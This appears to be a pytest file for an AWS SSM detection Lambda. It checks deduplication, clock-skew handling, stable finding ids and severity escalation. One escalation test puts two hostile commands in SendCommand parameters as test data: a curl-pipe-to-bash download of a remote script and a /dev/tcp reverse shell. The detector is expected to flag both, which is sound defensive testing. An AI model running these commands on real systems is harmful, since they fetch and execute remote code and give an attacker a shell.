"""The exact sequences of issues 17 and 14, serial, through the real handler: the same events in
any order give the same findings, one notification per window and level, and the Security Hub
record that holds every firing.

SNS (into an SQS inbox), DynamoDB in moto; Security Hub is `StrictSecurityHub`, which keeps an
import only when its `UpdatedAt` is newer than the stored one, as Security Hub does (moto
replaces the finding on every import). The function's wall clock is set per invocation, so a
Lambda whose clock runs ahead of another's can be played serially.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import boto3
import pytest
from moto import mock_aws

from ssm_detect.local_context import LocalLambdaContext
from ssm_detect.wiring import AwsClients, Runtime, lambda_runtime
from tests.builders import envelope, load_record, send_command
from tests.conftest import REGION, TABLE, ensure_state_table, load_event
from tests.fakes import StrictSecurityHub
from tests.test_end_to_end import detections_of

SEND = "AWS.SSM.SendCommand"
FANOUT = "AWS.SSM.DistributedCommand"
CHAIN = "AWS.SSM.CreatedDocumentExecuted"
FUNCTION_ACCOUNT = "000000000000"  # LocalLambdaContext's
DAY = datetime(2025, 3, 10, tzinfo=UTC)
WALL = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)


@dataclass
class Detector:
    """The handler wired as in Lambda, one invocation at a time, with a settable wall clock."""

    runtime: Runtime
    hub: StrictSecurityHub
    queue: str
    wall: list[datetime] = field(default_factory=lambda: [WALL])
    notified: list[list[tuple[str, str]]] = field(default_factory=list)
    """(detection, finding id) of each notification the SNS sink was handed."""
    published: list[dict[str, Any]] = field(default_factory=list)
    """The `Publish` requests (Subject, Message with its email and Chatbot renderings)."""

    def invoke(self, event: dict[str, Any], *, at: datetime | None = None) -> dict[str, Any]:
        from handler import app  # noqa: PLC0415

        self.wall[0] = at or self.wall[0] + timedelta(seconds=1)
        result: dict[str, Any] = app.lambda_handler(event, LocalLambdaContext())  # type: ignore[arg-type]
        return result

    def messages(self) -> list[dict[str, Any]]:
        """What reached the topic's SQS subscriber since the last call (attributes included)."""
        sqs = boto3.client("sqs", region_name=REGION)
        found: list[dict[str, Any]] = []
        while batch := sqs.receive_message(QueueUrl=self.queue, MaxNumberOfMessages=10).get(
            "Messages", []
        ):
            for message in batch:
                found.append(json.loads(message["Body"]))
                sqs.delete_message(QueueUrl=self.queue, ReceiptHandle=message["ReceiptHandle"])
        return found

    def email(self, n: int) -> str:
        text: str = json.loads(self.published[n]["Message"])["email"]
        return text

    def records(self, detection: str) -> list[dict[str, Any]]:
        return [f for f in self.hub.findings.values() if f["GeneratorId"] == detection]


def make_detector(patch: pytest.MonkeyPatch) -> Detector:
    """Inside moto (the state table created): the handler's runtime with an SNS topic that an
    SQS queue subscribes to, the strict Security Hub double, and a settable wall clock."""
    from handler import app  # noqa: PLC0415

    sns = boto3.client("sns", region_name=REGION)
    sqs = boto3.client("sqs", region_name=REGION)
    topic = sns.create_topic(Name="ssm-detect-findings")["TopicArn"]
    queue = sqs.create_queue(QueueName="inbox")["QueueUrl"]
    arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn["QueueArn"])
    hub = StrictSecurityHub(FUNCTION_ACCOUNT)
    clients = AwsClients(
        dynamodb=boto3.client("dynamodb", region_name=REGION),
        sns=sns,
        securityhub=hub,  # type: ignore[arg-type]
    )
    env = {
        "STATE_TABLE_NAME": TABLE,
        "FINDINGS_TOPIC_ARN": topic,
        "SECURITY_HUB_ENABLED": "true",
        "AWS_REGION": REGION,
    }
    runtime = lambda_runtime(env, app.logger, FUNCTION_ACCOUNT, clients)
    detector = Detector(runtime, hub, queue)

    def wall() -> datetime:
        return detector.wall[0]

    runtime.dispatcher._clock = wall
    for sink in runtime.dispatcher.recorders:
        if hasattr(sink, "_clock"):
            sink._clock = wall
    (notifier,) = runtime.dispatcher.notifiers
    send = notifier.send

    def recording_send(findings: Any) -> None:
        send(findings)
        detector.notified.append([(f.detection_id, f.id) for f in findings])

    patch.setattr(notifier, "send", recording_send)
    sns.meta.events.register(
        "before-parameter-build.sns.Publish",
        lambda params, **_: detector.published.append(dict(params)),
    )
    patch.setattr(app, "runtime", lambda _account: runtime)
    return detector


@pytest.fixture
def detector(aws: None, monkeypatch: pytest.MonkeyPatch) -> Detector:
    del aws
    return make_detector(monkeypatch)


def command(event_id: str, at: datetime, instances: list[str] | None = None) -> dict[str, Any]:
    """One principal's SendCommand (the same instance unless told: no fan-out)."""
    return envelope(send_command(instances or ["i-0aaaaaaaaaaaaaaa1"], event_id=event_id, at=at))


def sent_ids(detector: Detector, detection: str) -> list[str]:
    return [fid for group in detector.notified for det, fid in group if det == detection]


# --- issue 17, point 2: a redelivery after more than one window ----------------------------------


def test_redelivery_after_a_later_window_opened_is_recognised_and_not_notified(
    detector: Detector,
) -> None:
    """S1 at 10:00, S1b at 10:10, S2 at 11:30 (a new window), then S1 delivered again: S1's
    window already notified it; its Security Hub record keeps count 2."""
    s1 = command("s1", DAY.replace(hour=10))
    detector.invoke(s1)
    detector.invoke(command("s1b", DAY.replace(hour=10, minute=10)))
    detector.invoke(command("s2", DAY.replace(hour=11, minute=30)))
    assert len(detector.messages()) == 2  # the 10:00 window and the 11:00 window
    detector.invoke(s1, at=WALL + timedelta(days=3))  # redriven from the failure queue
    assert detector.messages() == []
    counts = sorted(r["ProductFields"]["ssm-detect/count"] for r in detector.records(SEND))
    assert counts == ["1", "2"]


# --- issue 17, point 3: Security Hub's record under clock skew -----------------------------------


def test_security_hub_keeps_the_import_that_holds_every_firing_whatever_the_clocks(
    detector: Detector,
) -> None:
    """The second firing's invocation runs on a Lambda whose clock is ahead; the third's on
    one whose clock is right. Security Hub keeps the newest `UpdatedAt`: it must be the third's
    (count 3), not the second's (count 2)."""
    detector.invoke(command("a", DAY.replace(hour=10)), at=WALL)
    detector.invoke(command("b", DAY.replace(hour=10, minute=5)), at=WALL + timedelta(minutes=5))
    detector.invoke(command("c", DAY.replace(hour=10, minute=9)), at=WALL + timedelta(seconds=30))
    (record,) = detector.records(SEND)
    assert record["ProductFields"]["ssm-detect/count"] == "3"
    assert record["ProductFields"]["ssm-detect/event_ids"] == "a,b,c"
    assert record["UpdatedAt"] > record["CreatedAt"]


# --- issue 17, point 4: ids are a function of the events -----------------------------------------


def _run(events: list[dict[str, Any]]) -> tuple[list[str], list[str]]:
    """The events through a fresh deployment (state, topic, Security Hub), in this order: the
    ids notified and the ids Security Hub holds."""
    with mock_aws(), pytest.MonkeyPatch.context() as patch:
        ensure_state_table(boto3.client("dynamodb", region_name=REGION), TABLE)
        detector = make_detector(patch)
        for event in events:
            detector.invoke(event)
        return sorted(sent_ids(detector, SEND)), sorted(r["Id"] for r in detector.records(SEND))


@pytest.mark.parametrize(
    ("first", "second", "windows"),
    [((10, 0), (10, 20), 1), ((10, 50), (11, 10), 2)],
    ids=["one-window", "across-a-window-boundary"],
)
def test_finding_ids_do_not_depend_on_arrival_order(
    first: tuple[int, int], second: tuple[int, int], windows: int
) -> None:
    events = [
        command("early", DAY.replace(hour=first[0], minute=first[1])),
        command("late", DAY.replace(hour=second[0], minute=second[1])),
    ]
    in_order, reversed_order = _run(events), _run(events[::-1])
    assert in_order == reversed_order
    notified, records = in_order
    assert notified == records  # one notification per window, under the window's id
    assert len(records) == windows


# --- issue 14, point 1: escalation inside a window -----------------------------------------------

FLEET = [f"i-{n:017x}" for n in range(1, 64)]


def _principal_call(event_id: str, at: datetime, instances: list[str]) -> dict[str, Any]:
    record = send_command(
        instances, event_id=event_id, at=at, template="panther_send_command_three_instances.json"
    )
    record["userIdentity"] = load_record("panther_send_command_three_instances.json")[
        "userIdentity"
    ]
    return record


def test_a_severity_rise_inside_the_window_notifies_once_per_level(detector: Detector) -> None:
    """SendCommand to 3 instances (HIGH + INFORMATIONAL), then to 63 (the fan-out becomes
    MEDIUM), then one whose visible parameters hold `curl … | bash` and `/dev/tcp` (CRITICAL):
    three notifications, the later two escalations, and a retry of the last sends nothing."""
    start = DAY.replace(hour=10)
    detector.invoke(envelope(_principal_call("e1", start, FLEET[:3])))
    detector.invoke(envelope(_principal_call("e2", start + timedelta(minutes=5), FLEET)))
    third = _principal_call("e3", start + timedelta(minutes=10), FLEET[:1])
    third["requestParameters"]["parameters"] = {
        "commands": [
            "curl -s http://203.0.113.9/x.sh | bash",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        ]
    }
    detector.invoke(envelope(third))
    detector.invoke(envelope(third))  # redelivered: nothing more
    first, rise, critical = detector.messages()
    assert sorted(detections_of(first)) == [FANOUT, SEND]
    assert detections_of(rise) == [FANOUT]
    assert detector.published[1]["Subject"].startswith(
        "[ssm-detect] MEDIUM: escalated from INFORMATIONAL"
    )
    assert detections_of(critical) == [SEND]
    assert detector.published[2]["Subject"].startswith("[ssm-detect] CRITICAL: escalated from HIGH")
    email = detector.email(2)
    assert "ESCALATED from HIGH to CRITICAL" in email
    assert "raised to CRITICAL" in email  # what changed
    (record,) = detector.records(SEND)
    assert record["Severity"]["Label"] == "CRITICAL"  # the record leads with the worst firing
    assert record["ProductFields"]["ssm-detect/count"] == "3"


# --- issue 14, point 8: one notification per event, chains included -----------------------------


def test_the_findings_of_one_event_travel_in_one_notification(detector: Detector) -> None:
    detector.invoke(load_event("panther_send_command_three_instances.json"))
    (message,) = detector.messages()
    assert sorted(detections_of(message)) == [FANOUT, SEND]
    assert detector.published[0]["Subject"].startswith("[ssm-detect] HIGH: 2 findings:")
    email = detector.email(0)
    assert "HIGH          AWS.SSM.SendCommand" in email
    assert "INFORMATIONAL AWS.SSM.DistributedCommand" in email
    send, fanout = detector.records(SEND)[0], detector.records(FANOUT)[0]
    assert [r["Id"] for r in send["RelatedFindings"]] == [fanout["Id"]]
    assert [r["Id"] for r in fanout["FindingProviderFields"]["RelatedFindings"]] == [send["Id"]]


def test_a_chain_and_the_run_that_closes_it_travel_in_one_notification(
    detector: Detector,
) -> None:
    detector.invoke(load_event("chain_create_rare_document.json"))
    detector.invoke(load_event("chain_execute_within_window.json"))
    created, ran = detector.messages()
    assert CHAIN in detections_of(ran)
    assert len(detections_of(ran)) >= 2  # the run's own SendCommand finding rides along
    del created
